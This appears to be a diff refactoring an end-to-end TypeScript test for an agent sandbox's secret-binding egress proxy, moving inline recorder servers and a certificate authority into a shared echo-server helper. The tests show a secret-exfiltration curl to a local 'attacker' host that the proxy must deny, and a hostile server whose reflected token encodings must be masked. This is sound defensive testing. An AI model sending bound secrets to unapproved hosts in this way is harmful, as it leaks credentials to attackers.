@@ -8,25 +8,15 @@
  */
 import { execFile } from 'node:child_process';
 import { randomBytes } from 'node:crypto';
-import { readdir, readFile, rm, writeFile } from 'node:fs/promises';
-import { createServer, type IncomingMessage, type Server, type ServerResponse } from 'node:http';
-import { createServer as createHttpsServer } from 'node:https';
-import type { AddressInfo } from 'node:net';
+import { readdir, readFile } from 'node:fs/promises';
 import path from 'node:path';
 import { promisify } from 'node:util';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { createEphemeralCa } from '../../egress-proxy/deployment-ca.js';
 import { type ModelStub, startModelStub } from '../../hack/model-stub/model-stub.js';
+import { type EchoRequest, type EchoResponder, type EchoServers, startEchoServers } from '../helpers/echo-servers.js';
 import { parseNdjson, withoutPings } from '../helpers/ndjson.js';
 import { type ProvisionedUser, provisionUser } from '../helpers/provision.js';
 import { startTestServer, type TestServer } from '../helpers/test-server.js';
-
-interface Received {
-  port: number;
-  url: string;
-  headers: IncomingMessage['headers'];
-  body: string;
-}
 
 /** The value's encodings a hostile server could answer with, as the masker must catch them. */
 function encodings(value: string): Record<string, string> {
@@ -43,30 +33,17 @@ function encodings(value: string): Record<string, string> {
   };
 }
 
-function recorder(received: Received[], port: () => number) {
-  return (req: IncomingMessage, res: ServerResponse) => {
-    const chunks: Buffer[] = [];
-    req.on('data', (chunk: Buffer) => chunks.push(chunk));
-    req.on('end', () => {
-      received.push({ port: port(), url: req.url!, headers: req.headers, body: Buffer.concat(chunks).toString('utf8') });
-      res.setHeader('content-type', 'application/json');
-      const token = String(req.headers['x-token'] ?? '');
-      // The encoder reflects what it got in every encoding; the others say only that they got it.
-      res.end(JSON.stringify(req.url === '/encode' ? encodings(token) : { got: token.length > 0 }));
-    });
-  };
-}
-
-async function listen(server: Server): Promise<number> {
-  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
-  return (server.address() as AddressInfo).port;
-}
+/** The encoder reflects what it got in every encoding; the others say only that they got it. */
+const reflect: EchoResponder = (request, answer) => {
+  const token = String(request.headers['x-token'] ?? '');
+  answer('application/json', JSON.stringify(request.path === '/encode' ? encodings(token) : { got: token.length > 0 }));
+};
 
 const PLATFORM_KEY = `sk-ant-platform-${randomBytes(8).toString('hex')}`;
-const received: Received[] = [];
-const servers: Server[] = [];
 const canaries: string[] = [];
 const seen: string[] = [];
+let echo: EchoServers;
+let received: EchoRequest[];
 let httpPort: number;
 let httpsPort: number;
 let attackerPort: number;
@@ -74,7 +51,6 @@ let stub: ModelStub;
 let t: TestServer;
 let key: string;
 let user: ProvisionedUser;
-let caFile: string;
 
 const canary = (label: string) => {
   const value = `canary-${label}-${randomBytes(8).toString('hex')}`;
@@ -83,24 +59,15 @@ const canary = (label: string) => {
 };
 
 beforeAll(async () => {
-  const upstreamCa = await createEphemeralCa('binding e2e CA');
-  const leaf = await upstreamCa.issueLeaf('localhost');
-  const http = createServer(recorder(received, () => httpPort));
-  const https = createHttpsServer(
-    { cert: leaf.certPem, key: leaf.keyPem },
-    recorder(received, () => httpsPort),
-  );
-  const attacker = createServer(recorder(received, () => attackerPort));
-  servers.push(http, https, attacker);
-  [httpPort, httpsPort, attackerPort] = (await Promise.all(servers.map(listen))) as [number, number, number];
-  caFile = path.join(process.env.TMPDIR ?? '/tmp', `acis-binding-e2e-${randomBytes(4).toString('hex')}.pem`);
-  await writeFile(caFile, upstreamCa.certPem);
+  echo = await startEchoServers('binding e2e CA', { respond: reflect, extraHttpServers: 1 });
+  ({ httpPort, httpsPort, received } = echo);
+  [attackerPort] = echo.extraHttpPorts as [number];
   stub = await startModelStub({ apiKey: PLATFORM_KEY });
   t = await startTestServer({
     ANTHROPIC_BASE_URL: stub.url,
     ANTHROPIC_API_KEY: PLATFORM_KEY,
     ACIS_EGRESS_ALLOW: `127.0.0.1:${httpPort},localhost:${httpsPort},127.0.0.1:${attackerPort}`,
-    ACIS_EGRESS_EXTRA_CA: caFile,
+    ACIS_EGRESS_EXTRA_CA: echo.caFile,
     ACIS_POOL_SIZE: '1',
     ACIS_MAX_SANDBOXES: '4',
   });
@@ -111,8 +78,7 @@ beforeAll(async () => {
 afterAll(async () => {
   await t?.stop();
   await stub?.stop();
-  for (const server of servers) server.close();
-  if (caFile) await rm(caFile, { force: true });
+  echo?.close();
 });
 
 async function newConversation(): Promise<string> {
@@ -154,8 +120,8 @@ describe('a bound secret, through the real agent and the real proxy', () => {
         `curl -s -H 'X-Token: {{secret:API_KEY}}' http://127.0.0.1:${httpPort}/plain`,
     );
     expect(message.status).toBe('completed');
-    expect(received.find((r) => r.url === '/tls')?.headers['x-token']).toBe(value);
-    expect(received.find((r) => r.url === '/plain')?.headers['x-token']).toBe(value);
+    expect(received.find((r) => r.path === '/tls')?.headers['x-token']).toBe(value);
+    expect(received.find((r) => r.path === '/plain')?.headers['x-token']).toBe(value);
   });
 
   it("stops the exfiltration curl <other host> -d '{{secret:TENANT_KEY}}': the run ends secret-destination-denied", async () => {
@@ -187,7 +153,7 @@ describe('a bound secret, through the real agent and the real proxy', () => {
     await put(`/conversations/${conversationId}/secrets`, { ENC: { value, allowed_hosts: [`http://127.0.0.1:${httpPort}`] } });
     const { message } = await bash(conversationId, `curl -s -H 'X-Token: {{secret:ENC}}' http://127.0.0.1:${httpPort}/encode`);
     expect(message.status).toBe('completed');
-    expect(received.find((r) => r.url === '/encode')?.headers['x-token']).toBe(value);
+    expect(received.find((r) => r.path === '/encode')?.headers['x-token']).toBe(value);
     for (const [name, form] of Object.entries(encodings(value))) {
       expect(message.content, name).toContain(`"${name}":"`);
       expect(message.content, name).not.toContain(form);
